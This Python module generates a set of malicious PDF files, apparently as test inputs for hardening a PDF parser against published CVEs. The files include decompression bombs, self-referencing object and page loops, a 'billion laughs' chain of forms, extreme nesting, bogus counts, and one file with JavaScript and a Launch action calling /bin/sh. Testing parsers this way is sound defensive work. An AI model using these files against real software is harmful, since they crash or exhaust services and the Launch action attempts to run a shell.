"""PDF files that want to harm: bombs, loops and lies as they were published for other readers, written anew.

Each is named for what it does; what was published where is said beside it. None is large on disk.
"""

import zlib
from collections.abc import Iterator, Mapping, Sequence

WORDS = b"BT /F1 11 Tf 72 700 Td (The harbour board said that the quay would stay shut until June.) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
CATALOG, PAGES, PAGE, CONTENT, LETTERS = 1, 2, 3, 4, 5  # numbers of the objects of every file
FORMS = 12  # forms that draw the next one ten times each: 10 to the power of 12
MANY = 10_000
HUGE = 100_000_000  # bytes

Objects = dict[int, bytes]


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object's body."""
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (entries, len(data), data)


def squeezed(data: bytes, times: int = 1) -> bytes:
    """Return a stream that is packed so many times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def whole(changes: Mapping[int, bytes] | None = None, *, trailer: bytes = b"", info: bytes = b"") -> bytes:
    """Return a file of one page with some objects changed or added, its table of objects right."""
    objects: Objects = {
        CATALOG: b"<</Type/Catalog/Pages 2 0 R>>",
        PAGES: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        CONTENT: stream(WORDS),
        LETTERS: FONT,
        **(changes or {}),
    }
    out = bytearray(b"%PDF-1.7\n" + info)
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer <</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, trailer, start)
    return bytes(out)


def page(contents: bytes = b"4 0 R", resources: bytes = b"", box: bytes = b"0 0 612 792") -> bytes:
    """Return a page object's body."""
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents %b/Resources<</Font<</F1 5 0 R>>%b>>>>" % (
        box,
        contents,
        resources,
    )


def form(content: bytes, resources: bytes) -> bytes:
    """Return a form that a page can draw."""
    return stream(
        content, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%b/Font<</F1 5 0 R>>>>" % resources
    )


def run_lengths(size: int) -> bytes:
    """Return about ``size`` zero bytes, packed as runs."""
    return b"\x81\x00" * (size // 128) + b"\x80"


def to_unicode(lines: Sequence[bytes]) -> dict[int, bytes]:
    """Return the objects of a file whose letters stand for other characters than they look like."""
    table = b"/CIDInit /ProcSet findresource begin begincmap\n" + b"\n".join(lines) + b"\nendcmap end"
    return {LETTERS: FONT[:-2] + b"/ToUnicode 9 0 R>>", 9: stream(table)}


def hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    """Yield the files with their names."""
    yield from _packed()
    yield from _looped()
    yield from _lying()
    yield from _large()


def _packed() -> Iterator[tuple[str, bytes]]:
    yield "packed", whole({CONTENT: squeezed(bytes(HUGE))})
    yield "packed-twice", whole({CONTENT: squeezed(bytes(HUGE), 2)})  # pypdf#3429
    yield "packed-ten-times", whole({CONTENT: squeezed(bytes(HUGE), 10)})  # CVE-2025-55197
    yield (
        "a-thousand-filters",
        whole({CONTENT: stream(zlib.compress(WORDS), b"/Filter[" + b"/FlateDecode" * 1000 + b"]")}),
    )
    yield (
        "lzw",
        whole({CONTENT: stream(b"\x80\x0b\x60\x50" * 2_000_000, b"/Filter/LZWDecode")}),
    )  # CVE-2025-62708, -66019
    yield "runs", whole({CONTENT: stream(run_lengths(HUGE), b"/Filter/RunLengthDecode")})
    runs = zlib.compress(run_lengths(20 * HUGE), 9)
    yield "runs-packed", whole({CONTENT: stream(runs, b"/Filter[/FlateDecode/RunLengthDecode]")})
    parameters = b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647/Colors 255/BitsPerComponent 32>>"
    yield "columns", whole({CONTENT: stream(zlib.compress(WORDS), parameters)})
    yield "letters-in-hex", whole({CONTENT: stream(b"20" * 5_000_000, b"/Filter/ASCIIHexDecode")})
    yield "zeros-in-85", whole({CONTENT: stream(b"z" * 5_000_000 + b"~>", b"/Filter/ASCII85Decode")})
    inline = b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB /F /DCT ID \xff\xd8\xff" + bytes(1000)  # no EI: CVE-2025-62707
    yield "picture-without-end", whole({CONTENT: stream(inline + WORDS)})
    wide = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
        b"/Filter/FlateDecode"
    )
    drawn = {PAGE: page(resources=b"/XObject<</X 9 0 R>>"), CONTENT: stream(b"/X Do " + WORDS)}
    yield "picture", whole({**drawn, 9: stream(zlib.compress(bytes(HUGE), 9), wide)})
    yield "jbig2", whole({**drawn, 9: stream(b"\x00" * 64, wide.replace(b"FlateDecode", b"JBIG2Decode"))})


def _looped() -> Iterator[tuple[str, bytes]]:
    good = whole()
    table = good.index(b"xref\n")
    yield "table-of-itself", whole(trailer=b"/Prev %d" % table)
    yield "table-before-the-start", whole(trailer=b"/Prev 0")
    first = good.replace(b"/Size 6/Root 1 0 R>>", b"/Size 6/Root 1 0 R/Prev 9999>>")
    second = b"xref\n0 1\n0000000000 65535 f \ntrailer <</Size 6/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    end = len(first)
    yield "two-tables", first.replace(b"/Prev 9999", b"/Prev %d" % end) + second % (table, end)
    yield "pages-of-themselves", whole({PAGES: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"})
    yield "parent-of-itself", whole({PAGES: b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>"})
    deep = {n: b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (n - 1, n + 1) for n in range(10, 10_010)}
    yield "pages-deep", whole({PAGES: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", **deep, 10_010: page()})
    yield "length-of-itself", whole({CONTENT: stream(WORDS).replace(b"/Length %d" % len(WORDS), b"/Length 4 0 R")})
    yield "reference-to-itself", whole({CONTENT: b"4 0 R"})
    ring = {n: b"%d 0 R" % (n + 1 if n < 40 else 10) for n in range(10, 41)}
    yield "ring-of-references", whole({**ring, CONTENT: b"10 0 R"})
    drawn = {PAGE: page(resources=b"/XObject<</X 9 0 R>>"), CONTENT: stream(WORDS + b" /X Do")}
    yield "form-of-itself", whole({**drawn, 9: form(b"/X Do " + WORDS, b"/XObject<</X 9 0 R>>")})
    forms = {
        n: form(b"/X Do " * 10, b"/XObject<</X %d 0 R>>" % (n + 1)) for n in range(9, 9 + FORMS)
    }  # the billion laughs of PDF
    yield "forms-of-forms", whole({**drawn, **forms, 9 + FORMS: form(WORDS, b"")})
    glyph = stream(b"1000 0 d0 BT /F1 11 Tf (a) Tj ET")
    letters = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 9 0 R>>"
        b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    yield (
        "letter-of-itself",
        whole({LETTERS: letters, 9: glyph, CONTENT: stream(b"BT /F1 11 Tf 72 700 Td (aaaa) Tj ET")}),
    )
    outline = {CATALOG: b"<</Type/Catalog/Pages 2 0 R/Outlines 9 0 R>>", 9: b"<</First 10 0 R/Last 10 0 R>>"}
    yield "outline-of-itself", whole({**outline, 10: b"<</Title(a)/Next 10 0 R/First 10 0 R/Parent 9 0 R>>"})
    names = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 9 0 R/Dests 9 0 R>>>>"
    yield "names-of-themselves", whole({CATALOG: names, 9: b"<</Kids[9 0 R 9 0 R]>>"})
    held = b"10 0 11 5 12 10 << >> << >> << >>"
    yield "objects-of-themselves", whole({9: stream(held, b"/Type/ObjStm/N 3/First 15/Extends 9 0 R")})
    yield "map-of-itself", whole(to_unicode([b"/Adobe-Identity-UCS usecmap", b"1 beginbfchar <41> <0041> endbfchar"]))


def _lying() -> Iterator[tuple[str, bytes]]:
    for count in (b"2147483647", b"-1", b"99999999999999999999"):
        yield f"count-{count.decode()}", whole({PAGES: b"<</Type/Pages/Kids[3 0 R]/Count %b>>" % count})
    good = whole()
    yield (
        "no-root",
        good.replace(b"/Root 1 0 R", b"/Rood 1 0 R").replace(b"/Size 6", b"/Size 2000000000"),
    )  # CVE-2026-22690
    yield "table-elsewhere", good.replace(b"startxref\n", b"startxref\n99999")
    yield "no-table", good[: good.index(b"xref\n")]
    yield "many-in-the-table", good.replace(b"xref\n0 1\n", b"xref\n0 999999999\n")
    yield "many-in-a-stream-of-objects", whole({9: stream(b"1 0", b"/Type/ObjStm/N 2147483647/First 3")})
    widths = b"/Type/XRef/W[2147483647 2147483647 2147483647]/Index[0 2147483647]/Size 2147483647/Root 1 0 R"
    body = b"%PDF-1.7\n1 0 obj\n" + stream(b"", widths) + b"\nendobj\nstartxref\n9\n%%EOF"
    yield "wide-table", body
    yield "late-header", bytes(2000) + good
    yield "strange-letters", whole(to_unicode([b"1 beginbfrange <20> <7e> <e000> endbfrange"]))
    yield "many-letters", whole(to_unicode([b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"] * 1000))
    yield "box-without-end", whole({PAGE: page(box=b"-1e38 -1e38 1e38 1e38")})
    yield (
        "size-without-end",
        whole({CONTENT: stream(WORDS.replace(b" 11 Tf", b" 1e38 Tf").replace(b"72 700", b"1e39 -1e39"))}),
    )
    locked = b"/Encrypt<</Filter/Standard/V 1/R 2/O(" + b"a" * 32 + b")/U(" + b"b" * 32 + b")/P 4>>"
    yield "locked", whole(trailer=locked + b"/ID[(a)(b)]")
    yield "locked-by-somebody", whole(trailer=b"/Encrypt<</Filter/Nobody/V 99/R 99/O(a)/U(b)/P 4>>/ID[(a)(b)]")
    acting = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AA<</O<</S/Launch/F(/bin/sh)>>>>"
    yield "acts", whole({CATALOG: b"<</Type/Catalog/Pages 2 0 R%b>>" % acting})
    yield "no-text", whole({CONTENT: stream(b"0 0 612 792 re f")})


def _large() -> Iterator[tuple[str, bytes]]:
    kids = b" ".join(b"%d 0 R" % n for n in range(10, 10 + MANY))
    yield (
        "ten-thousand-pages",
        whole(
            {PAGES: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, MANY), **{n: page() for n in range(10, 10 + MANY)}}
        ),
    )
    yield "one-page-ten-thousand-times", whole({PAGES: b"<</Type/Pages/Kids[%b]/Count %d>>" % (b"3 0 R " * MANY, MANY)})
    yield "too-many-pages", whole({PAGES: b"<</Type/Pages/Kids[%b]/Count 90000>>" % (b"3 0 R " * 90_000)})
    yield (
        "arrays-deep",
        whole({9: b"[" * 100_000 + b"]" * 100_000, PAGE: page().replace(b"/Contents", b"/X 9 0 R/Contents")}),
    )
    yield "arrays-deep-on-the-page", whole({CONTENT: stream(b"[" * 1_000_000 + WORDS)})
    yield "dictionaries-deep", whole({PAGE: page().replace(b"/Contents", b"/X" + b"<</X" * 50_000 + b"/Contents")})
    yield "states-deep", whole({CONTENT: stream(b"q " * 2_000_000 + WORDS)})
    yield "string-without-end", whole({CONTENT: stream(b"BT /F1 11 Tf (" + b"\\(" * 2_000_000)})
    yield "words-again-and-again", whole({CONTENT: squeezed((WORDS + b" ") * 300_000)})
    yield "content-again-and-again", whole({PAGE: page(contents=b"[" + b"4 0 R " * 100_000 + b"]")})
    yield (
        "words-over-each-other",
        whole({CONTENT: squeezed(b"BT /F1 1 Tf 72 700 Td " + b"(aaaaaaaa) Tj 0 0 Td " * 100_000 + b"ET")}),
    )
